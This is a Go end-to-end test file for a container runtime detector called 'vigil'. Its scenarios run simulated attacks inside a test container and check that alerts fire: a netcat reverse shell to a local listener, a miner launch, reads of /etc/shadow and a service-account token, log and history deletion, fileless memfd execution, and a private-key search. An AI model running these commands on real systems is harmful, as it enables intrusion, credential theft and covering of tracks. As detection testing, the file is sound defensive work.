//go:build e2eruntime

package runtime

import (
	"bufio"
	"context"
	"crypto/rand"
	"debug/elf"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// alertWait is how long a scenario's alert may take to arrive.
const alertWait = 2 * time.Second

// quietWait is how long a benign scenario is watched for alerts.
const quietWait = 1500 * time.Millisecond

// alert is what the harness reads of one alert line.
type alert struct {
	Rule         string         `json:"rule"`
	Source       string         `json:"source"`
	Output       string         `json:"output"`
	OutputFields map[string]any `json:"output_fields"`
	seen         time.Time
}

func (a alert) field(name string) string {
	v, ok := a.OutputFields[name]
	if !ok || v == nil {
		return ""
	}
	return fmt.Sprint(v)
}

// alertLog follows vigil's --alerts-file.
type alertLog struct {
	mu     sync.Mutex
	alerts []alert
	errs   []error
}

func (l *alertLog) follow(ctx context.Context, path string) {
	var f *os.File
	for f == nil {
		var err error
		if f, err = os.Open(path); err != nil {
			select {
			case <-ctx.Done():
				return
			case <-time.After(50 * time.Millisecond):
			}
		}
	}
	defer f.Close()
	rd := bufio.NewReader(f)
	var partial []byte
	for {
		line, err := rd.ReadBytes('\n')
		partial = append(partial, line...)
		if err == nil {
			var a alert
			if jerr := json.Unmarshal(partial, &a); jerr != nil {
				l.mu.Lock()
				l.errs = append(l.errs, fmt.Errorf("alert line %q: %w", partial, jerr))
				l.mu.Unlock()
			} else {
				a.seen = time.Now()
				l.mu.Lock()
				l.alerts = append(l.alerts, a)
				l.mu.Unlock()
			}
			partial = partial[:0]
			continue
		}
		select {
		case <-ctx.Done():
			return
		case <-time.After(20 * time.Millisecond):
		}
	}
}

// since returns the alerts read at or after index i, and the new length.
func (l *alertLog) since(i int) ([]alert, int) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]alert(nil), l.alerts[i:]...), len(l.alerts)
}

func (l *alertLog) len() int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return len(l.alerts)
}

// waitFor waits up to d for an alert after index from that satisfies ok.
func (l *alertLog) waitFor(from int, d time.Duration, ok func(alert) bool) (alert, bool) {
	deadline := time.Now().Add(d)
	for {
		as, _ := l.since(from)
		for _, a := range as {
			if ok(a) {
				return a, true
			}
		}
		if time.Now().After(deadline) {
			return alert{}, false
		}
		time.Sleep(25 * time.Millisecond)
	}
}

// env is the machinery of one run: vigil, a runc container, listeners.
type env struct {
	t        *testing.T
	dir      string
	runcRoot string
	bundle   string
	id       string // full container id (64 hex)
	alerts   *alertLog
	vigilLog string
}

func moduleRoot(t *testing.T) string {
	out, err := exec.Command("go", "env", "GOMOD").Output()
	require.NoError(t, err, "go env GOMOD")
	return filepath.Dir(strings.TrimSpace(string(out)))
}

func goBuild(t *testing.T, root, out, pkg string) {
	t.Helper()
	cmd := exec.Command("go", "build", "-o", out, pkg)
	cmd.Dir = root
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	b, err := cmd.CombinedOutput()
	require.NoError(t, err, "go build %s:\n%s", pkg, b)
}

func requireTools(t *testing.T) string {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("runtime scenarios need root (eBPF sensor, runc)")
	}
	if _, err := exec.LookPath("runc"); err != nil {
		t.Skipf("runc not installed (scripts/deps.sh installs it): %v", err)
	}
	bb, err := exec.LookPath("busybox")
	if err != nil {
		t.Skipf("busybox-static not installed (scripts/deps.sh installs it): %v", err)
	}
	f, err := elf.Open(bb)
	require.NoError(t, err)
	defer f.Close()
	for _, p := range f.Progs {
		if p.Type == elf.PT_INTERP {
			t.Skipf("%s is dynamically linked: install busybox-static", bb)
		}
	}
	return bb
}

// busyboxApplets are linked in the rootfs's /bin.
var busyboxApplets = []string{
	"sh", "cat", "rm", "ln", "ls", "cp", "mv", "touch", "echo", "sleep", "true",
	"nsenter", "unshare", "dpkg", "id", "wget", "mkdir", "head", "find", "grep",
}

// attackerNames are the personalities of the attacker binary, in
// /usr/local/bin.
var attackerNames = []string{"xmrig", "nc", "ttyrun", "memfdexec", "tracer", "modload"}

const saToken = "eyJhbGciOiJSUzI1NiJ9.e2e.token"

// writeRootfs builds a busybox root filesystem with the attacker binary
// and the files the scenarios touch.
func writeRootfs(t *testing.T, rootfs, busybox, attacker string) {
	t.Helper()
	dirs := []string{"bin", "etc", "proc", "sys", "dev", "tmp", "root", "var/log",
		"usr/local/bin", "var/run/secrets/kubernetes.io/serviceaccount"}
	for _, d := range dirs {
		require.NoError(t, os.MkdirAll(filepath.Join(rootfs, d), 0o755))
	}
	require.NoError(t, os.Chmod(filepath.Join(rootfs, "tmp"), 0o1777))
	copyFile(t, busybox, filepath.Join(rootfs, "bin/busybox"), 0o755)
	for _, a := range busyboxApplets {
		require.NoError(t, os.Symlink("busybox", filepath.Join(rootfs, "bin", a)))
	}
	copyFile(t, attacker, filepath.Join(rootfs, "usr/local/bin/attacker"), 0o755)
	for _, n := range attackerNames {
		require.NoError(t, os.Symlink("attacker", filepath.Join(rootfs, "usr/local/bin", n)))
	}
	// kubectl: any program of that name; busybox will do.
	copyFile(t, busybox, filepath.Join(rootfs, "usr/local/bin/kubectl"), 0o755)
	files := map[string]string{
		"etc/passwd":        "root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\n",
		"etc/group":         "root:x:0:\n",
		"etc/shadow":        "root:$6$salt$hash:19000:0:99999:7:::\n",
		"etc/profile":       "export PATH=/usr/local/bin:/bin\n",
		"var/log/app.log":   "started\n",
		"root/.ash_history": "ls\nid\n",
		"var/run/secrets/kubernetes.io/serviceaccount/token":  saToken,
		"var/run/secrets/kubernetes.io/serviceaccount/ca.crt": "-----BEGIN CERTIFICATE-----\n",
		"tmp/module.ko": "\x7fELF not really a module",
	}
	for name, data := range files {
		require.NoError(t, os.WriteFile(filepath.Join(rootfs, name), []byte(data), 0o644))
	}
	require.NoError(t, os.Chmod(filepath.Join(rootfs, "etc/shadow"), 0o640))
}

func copyFile(t *testing.T, src, dst string, mode os.FileMode) {
	t.Helper()
	data, err := os.ReadFile(src)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(dst, data, mode))
}

// defaultCaps are Docker's default capabilities. CAP_SYS_RESOURCE is not
// among them: root lacks it on the build machines.
var defaultCaps = []string{
	"CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FSETID", "CAP_FOWNER", "CAP_MKNOD",
	"CAP_NET_RAW", "CAP_SETGID", "CAP_SETUID", "CAP_SETFCAP", "CAP_SETPCAP",
	"CAP_NET_BIND_SERVICE", "CAP_SYS_CHROOT", "CAP_KILL", "CAP_AUDIT_WRITE",
}

// ociConfig is the bundle's config.json: busybox sleeping as pid 1 in new
// pid, mount, ipc and uts namespaces, sharing the host's network (the
// listeners are on the host's 127.0.0.1), in cgroup /vigil-e2e/ID.
func ociConfig(id string) map[string]any {
	return map[string]any{
		"ociVersion": "1.0.2",
		"process": map[string]any{
			"terminal": false,
			"user":     map[string]any{"uid": 0, "gid": 0},
			"args":     []string{"/bin/sleep", "3600"},
			"env":      []string{"PATH=/usr/local/bin:/bin", "HOME=/root"},
			"cwd":      "/",
			"capabilities": map[string]any{
				"bounding": defaultCaps, "effective": defaultCaps, "permitted": defaultCaps,
			},
			"noNewPrivileges": true,
		},
		"root":     map[string]any{"path": "rootfs", "readonly": false},
		"hostname": "vigil-e2e",
		"mounts": []map[string]any{
			{"destination": "/proc", "type": "proc", "source": "proc"},
			{"destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": []string{"nosuid", "strictatime", "mode=755", "size=65536k"}},
			{"destination": "/dev/pts", "type": "devpts", "source": "devpts", "options": []string{"nosuid", "noexec", "newinstance", "ptmxmode=0666", "mode=0620"}},
			{"destination": "/dev/shm", "type": "tmpfs", "source": "shm", "options": []string{"nosuid", "nodev", "mode=1777", "size=65536k"}},
			{"destination": "/sys", "type": "sysfs", "source": "sysfs", "options": []string{"nosuid", "noexec", "nodev", "ro"}},
		},
		"linux": map[string]any{
			"cgroupsPath": "/vigil-e2e/" + id,
			"namespaces": []map[string]any{
				{"type": "pid"}, {"type": "ipc"}, {"type": "uts"}, {"type": "mount"},
			},
			"maskedPaths":   []string{"/proc/kcore", "/proc/keys", "/proc/timer_list", "/sys/firmware"},
			"readonlyPaths": []string{"/proc/bus", "/proc/fs", "/proc/irq", "/proc/sys", "/proc/sysrq-trigger"},
		},
	}
}

func freePort(t *testing.T) int {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port
}

// listen accepts connections on addr and drains them until the test ends.
func listen(t *testing.T, addr string) string {
	l, err := net.Listen("tcp", addr)
	require.NoError(t, err, "listen %s", addr)
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				_ = c.SetDeadline(time.Now().Add(3 * time.Second))
				_, _ = io.Copy(io.Discard, c)
			}()
		}
	}()
	return l.Addr().String()
}

// startVigil runs `vigil run` with the embedded rules and the sensor on,
// waits until it is ready and follows its alerts file.
func (e *env) startVigil(bin string, rules ...string) {
	t := e.t
	alertsFile := filepath.Join(e.dir, "alerts.jsonl")
	e.vigilLog = filepath.Join(e.dir, "vigil.log")
	logf, err := os.Create(e.vigilLog)
	require.NoError(t, err)
	listenAddr := fmt.Sprintf("127.0.0.1:%d", freePort(t))
	ctx, cancel := context.WithCancel(context.Background())
	args := []string{"run", "--listen", listenAddr, "--alerts-file", alertsFile,
		"--data-dir", filepath.Join(e.dir, "data"), "--sensor", "on", "--hostname", "e2e-node"}
	// VIGIL_E2E_EXTRA_RULES loads a rules file after the defaults, to
	// trace what the sensor reports while debugging a scenario.
	if extra := os.Getenv("VIGIL_E2E_EXTRA_RULES"); extra != "" && len(rules) == 0 {
		args = append(args, "-r", "embedded:", "-r", extra)
	}
	for _, r := range rules {
		args = append(args, "-r", r)
	}
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.Stdout, cmd.Stderr = io.Discard, logf
	cmd.Cancel = func() error { return cmd.Process.Signal(syscall.SIGTERM) }
	cmd.WaitDelay = 10 * time.Second
	require.NoError(t, cmd.Start())
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	t.Cleanup(func() {
		cancel()
		<-done
		logf.Close()
		if t.Failed() {
			b, _ := os.ReadFile(e.vigilLog)
			t.Logf("vigil run log:\n%s", b)
		}
	})
	e.alerts = &alertLog{}
	go e.alerts.follow(ctx, alertsFile)

	deadline := time.Now().Add(30 * time.Second)
	for {
		select {
		case err := <-done:
			b, _ := os.ReadFile(e.vigilLog)
			t.Fatalf("vigil run exited: %v\n%s", err, b)
		default:
		}
		resp, err := http.Get("http://" + listenAddr + "/readyz")
		if err == nil {
			resp.Body.Close()
			if resp.StatusCode == http.StatusOK {
				break
			}
		}
		require.True(t, time.Now().Before(deadline), "vigil run not ready after 30 s")
		time.Sleep(100 * time.Millisecond)
	}
	// The sensor attaches while the HTTP side comes up: give it a moment.
	time.Sleep(time.Second)
}

func (e *env) runc(args ...string) ([]byte, error) {
	cmd := exec.Command("runc", append([]string{"--root", e.runcRoot}, args...)...)
	return cmd.CombinedOutput()
}

// startContainer creates the bundle and runs the container detached.
func (e *env) startContainer(busybox, attacker string) {
	t := e.t
	var b [32]byte
	_, _ = rand.Read(b[:])
	e.id = hex.EncodeToString(b[:])
	e.bundle = filepath.Join(e.dir, "bundle")
	e.runcRoot = filepath.Join(e.dir, "runc")
	writeRootfs(t, filepath.Join(e.bundle, "rootfs"), busybox, attacker)
	cfg, err := json.MarshalIndent(ociConfig(e.id), "", "  ")
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(filepath.Join(e.bundle, "config.json"), cfg, 0o644))
	// The container inherits runc's stdio: a file, not a pipe that would
	// never reach EOF.
	logPath := filepath.Join(e.dir, "container.log")
	logf, err := os.Create(logPath)
	require.NoError(t, err)
	defer logf.Close()
	cmd := exec.Command("runc", "--root", e.runcRoot, "run", "--detach", "--bundle", e.bundle, e.id)
	cmd.Stdout, cmd.Stderr = logf, logf
	if err := cmd.Run(); err != nil {
		out, _ := os.ReadFile(logPath)
		t.Fatalf("runc run: %v\n%s", err, out)
	}
	t.Cleanup(func() {
		if out, err := e.runc("delete", "--force", e.id); err != nil {
			t.Logf("runc delete: %v\n%s", err, out)
		}
		// runc leaves the (now empty) parent cgroup behind.
		dirs, _ := filepath.Glob("/sys/fs/cgroup/*/vigil-e2e")
		for _, d := range append(dirs, "/sys/fs/cgroup/vigil-e2e") {
			_ = os.Remove(d)
		}
	})
}

// exec runs argv in the container and returns its combined output; a
// non-zero exit is not an error (attacks often fail).
func (e *env) exec(argv ...string) string {
	out, err := e.runc(append([]string{"exec", e.id}, argv...)...)
	var ee *exec.ExitError
	if err != nil && !errors.As(err, &ee) {
		e.t.Fatalf("runc exec %v: %v\n%s", argv, err, out)
	}
	return string(out)
}

// scenario is one attack or its benign counterpart.
type scenario struct {
	name string
	argv []string
	// rules are the rules the scenario must raise (nil: benign, none).
	rules []string
	// cmdline is the proc.cmdline the alert must show; with a leading "*",
	// a suffix of it.
	cmdline string
}

func (s scenario) cmdlineOK(got string) bool {
	if suffix, ok := strings.CutPrefix(s.cmdline, "*"); ok {
		return strings.HasSuffix(got, suffix)
	}
	return got == s.cmdline
}

func scenarios(minerAddr, shellAddr, httpAddr string) (attacks, benign []scenario) {
	attacks = []scenario{
		{name: "kubectl", argv: []string{"kubectl", "get", "pods"},
			rules: []string{"Container Management Client In Container"}, cmdline: "kubectl get pods"},
		{name: "terminal-shell", argv: []string{"ttyrun", "/bin/sh", "-c", "id"},
			rules: []string{"Terminal Shell In Container"}, cmdline: "sh -c id"},
		{name: "miner-start", argv: []string{"xmrig", minerAddr},
			rules: []string{"Crypto Miner Launched", "Connection To Mining Pool Port"}, cmdline: "xmrig " + minerAddr},
		{name: "log-deletion", argv: []string{"rm", "-f", "/var/log/app.log"},
			rules: []string{"Log Files Deleted Or Truncated"}, cmdline: "rm -f /var/log/app.log"},
		{name: "history-deleted", argv: []string{"rm", "-f", "/root/.ash_history"},
			rules: []string{"Shell History Tampering"}, cmdline: "rm -f /root/.ash_history"},
		{name: "history-c", argv: []string{"sh", "-c", "history -c"},
			rules: []string{"Shell History Tampering"}, cmdline: "sh -c history -c"},
		{name: "nsenter", argv: []string{"nsenter", "-t", "1", "-m", "true"},
			rules: []string{"Namespace Changed"}, cmdline: "nsenter -t 1 -m true"},
		{name: "unshare", argv: []string{"unshare", "-m", "true"},
			rules: []string{"Namespace Changed"}, cmdline: "unshare -m true"},
		{name: "drop-and-exec-tmp", argv: []string{"sh", "-c", "cp /bin/busybox /tmp/dropper && /tmp/dropper true"},
			rules: []string{"Drop And Execute In Container"}, cmdline: "dropper true"},
		{name: "write-etc", argv: []string{"touch", "/etc/cron.evil"},
			rules: []string{"Write Below System Directory In Container"}, cmdline: "touch /etc/cron.evil"},
		{name: "sa-token-read", argv: []string{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"},
			rules: []string{"Service Account Token Read By Unexpected Program"}, cmdline: "cat /var/run/secrets/kubernetes.io/serviceaccount/token"},
		{name: "reverse-shell", argv: []string{"nc", shellAddr, "/bin/sh", "-c", "echo pwned"},
			rules: []string{"Reverse Shell"}, cmdline: "nc " + shellAddr + " /bin/sh -c echo pwned"},
		{name: "memfd-exec", argv: []string{"memfdexec", "/bin/busybox", "true", "memfd-marker"},
			rules: []string{"Fileless Execution Via Memfd"}, cmdline: "* memfd-marker"},
		{name: "ptrace-attach", argv: []string{"tracer"},
			rules: []string{"Ptrace Attach Or Memory Write"}, cmdline: "tracer"},
		{name: "shadow-read", argv: []string{"cat", "/etc/shadow"},
			rules: []string{"Sensitive File Read"}, cmdline: "cat /etc/shadow"},
		{name: "package-manager", argv: []string{"dpkg", "-i", "/tmp/tool.deb"},
			rules: []string{"Package Management In Container"}, cmdline: "dpkg -i /tmp/tool.deb"},
		{name: "kernel-module", argv: []string{"modload", "/tmp/module.ko"},
			rules: []string{"Kernel Module Load"}, cmdline: "modload /tmp/module.ko"},
	}
	benign = []scenario{
		{name: "shell-without-tty", argv: []string{"sh", "-c", "echo hello"}},
		{name: "log-append", argv: []string{"sh", "-c", "echo line >> /var/log/app2.log"}},
		{name: "history-append", argv: []string{"sh", "-c", "echo ls >> /root/.ash_history"}},
		{name: "passwd-read", argv: []string{"cat", "/etc/passwd"}},
		{name: "sa-ca-read", argv: []string{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt"}},
		{name: "tmp-write", argv: []string{"touch", "/tmp/scratch"}},
		{name: "http-connect", argv: []string{"wget", "-q", "-O", "-", "http://" + httpAddr + "/"}},
		{name: "package-query", argv: []string{"dpkg", "-l"}},
		{name: "exec-from-image", argv: []string{"id"}},
	}
	return attacks, benign
}

func TestRuntimeScenarios(t *testing.T) {
	busybox := requireTools(t)
	root := moduleRoot(t)
	dir, err := os.MkdirTemp("", "vigil-rt")
	require.NoError(t, err)
	t.Cleanup(func() { _ = os.RemoveAll(dir) })

	bin := filepath.Join(dir, "vigil")
	goBuild(t, root, bin, "./cmd/vigil")
	attacker := filepath.Join(dir, "attacker")
	goBuild(t, root, attacker, "./test/runtime/attacker")

	minerAddr := listen(t, "127.0.0.1:3333")
	shellAddr := listen(t, "127.0.0.1:0")
	httpSrv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "ok\n") })}
	hl, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	go func() { _ = httpSrv.Serve(hl) }()
	t.Cleanup(func() { _ = httpSrv.Close() })

	e := &env{t: t, dir: dir}
	e.startVigil(bin)
	e.startContainer(busybox, attacker)
	shortID := e.id[:12]
	attacks, benign := scenarios(minerAddr, shellAddr, hl.Addr().String())

	ours := func(a alert) bool { return a.field("container.id") == shortID }

	// The first attack doubles as a probe: with no syscall alert at all,
	// vigil run does not capture syscalls yet.
	probeFrom := e.alerts.len()
	probeOut := e.exec(attacks[0].argv...)
	if _, found := e.alerts.waitFor(probeFrom, alertWait, func(a alert) bool { return a.Source == "syscall" }); !found {
		b, _ := os.ReadFile(e.vigilLog)
		t.Logf("probe %v output:\n%s\nvigil run log:\n%s", attacks[0].argv, probeOut, b)
		t.Skip("sensor not wired into vigil run yet")
	}
	for i, s := range attacks {
		t.Run(s.name, func(t *testing.T) {
			from, out := probeFrom, probeOut
			if i > 0 {
				from = e.alerts.len()
				out = e.exec(s.argv...)
			}
			for _, rule := range s.rules {
				a, found := e.alerts.waitFor(from, alertWait, func(a alert) bool {
					return a.Rule == rule && ours(a) && s.cmdlineOK(a.field("proc.cmdline"))
				})
				if !found {
					as, _ := e.alerts.since(from)
					t.Fatalf("no %q alert for container %s with cmdline %q within %s\ncommand output:\n%s\nalerts since:\n%s",
						rule, shortID, s.cmdline, alertWait, out, describe(as))
				}
				require.Equal(t, "syscall", a.Source)
			}
		})
	}

	// Benign counterparts: nothing from the container. Start after the
	// attacks' alerts have settled.
	time.Sleep(quietWait)
	for _, s := range benign {
		t.Run("benign/"+s.name, func(t *testing.T) {
			from := e.alerts.len()
			out := e.exec(s.argv...)
			time.Sleep(quietWait)
			as, _ := e.alerts.since(from)
			var mine []alert
			for _, a := range as {
				// A follow-up (vigil.count) counts repeats of an earlier
				// attack's alert whose aggregation window just closed.
				if ours(a) && a.field("vigil.count") == "" {
					mine = append(mine, a)
				}
			}
			require.Empty(t, mine, "benign %v raised alerts (output: %s):\n%s", s.argv, out, describe(mine))
		})
	}
	e.alerts.mu.Lock()
	require.Empty(t, e.alerts.errs, "unreadable alert lines")
	e.alerts.mu.Unlock()
}

func describe(as []alert) string {
	var b strings.Builder
	for _, a := range as {
		fmt.Fprintf(&b, "  %s [%s] %s\n", a.Rule, a.Source, a.Output)
	}
	return b.String()
}

// TestFalcoUpstreamRules runs Falco's own rules file, unchanged, through
// vigil run and checks that real attacks in a real container raise the
// upstream rules by their own names.
func TestFalcoUpstreamRules(t *testing.T) {
	busybox := requireTools(t)
	root := moduleRoot(t)
	falcoRules := filepath.Join(root, "..", "shared", "data", "falco", "rules", "falco_rules.yaml")
	if _, err := os.Stat(falcoRules); err != nil {
		t.Skipf("Falco's rules not found at %s (../shared/data beside the repository)", falcoRules)
	}
	dir, err := os.MkdirTemp("", "vigil-falco")
	require.NoError(t, err)
	t.Cleanup(func() { _ = os.RemoveAll(dir) })
	bin := filepath.Join(dir, "vigil")
	goBuild(t, root, bin, "./cmd/vigil")
	attacker := filepath.Join(dir, "attacker")
	goBuild(t, root, attacker, "./test/runtime/attacker")
	shellAddr := listen(t, "127.0.0.1:0")

	e := &env{t: t, dir: dir}
	e.startVigil(bin, falcoRules)
	e.startContainer(busybox, attacker)
	cases := []scenario{
		{name: "sensitive-file", argv: []string{"cat", "/etc/shadow"},
			rules: []string{"Read sensitive file untrusted"}, cmdline: "cat /etc/shadow"},
		{name: "clear-log", argv: []string{"sh", "-c", ": > /var/log/app.log"},
			rules: []string{"Clear Log Activities"}, cmdline: "sh -c : > /var/log/app.log"},
		{name: "search-keys", argv: []string{"find", "/root", "-name", "id_rsa"},
			rules: []string{"Search Private Keys or Passwords"}, cmdline: "find /root -name id_rsa"},
		{name: "netcat-rce-and-redirect", argv: []string{"nc", shellAddr, "/bin/sh", "-c", "echo pwned"},
			rules:   []string{"Netcat Remote Code Execution in Container", "Redirect STDOUT/STDIN to Network Connection in Container"},
			cmdline: "nc " + shellAddr + " /bin/sh -c echo pwned"},
		// Under a shell: Falco trusts memfd execs whose parent is runc.
		{name: "memfd", argv: []string{"sh", "-c", "memfdexec /bin/busybox true memfd-marker; true"},
			rules: []string{"Fileless execution via memfd_create"}, cmdline: "* memfd-marker"},
		{name: "ptrace", argv: []string{"tracer"},
			rules: []string{"PTRACE attached to process"}, cmdline: "tracer"},
	}
	for _, s := range cases {
		t.Run(s.name, func(t *testing.T) {
			from := e.alerts.len()
			out := e.exec(s.argv...)
			for _, rule := range s.rules {
				// Falco's outputs do not print container.id: match the
				// command line the rule printed.
				a, found := e.alerts.waitFor(from, alertWait, func(a alert) bool {
					return a.Rule == rule && s.cmdlineOK(a.field("proc.cmdline"))
				})
				if !found {
					as, _ := e.alerts.since(from)
					t.Fatalf("no upstream %q alert with cmdline %q within %s\ncommand output:\n%s\nalerts since:\n%s",
						rule, s.cmdline, alertWait, out, describe(as))
				}
				require.Equal(t, "syscall", a.Source)
			}
		})
	}
}
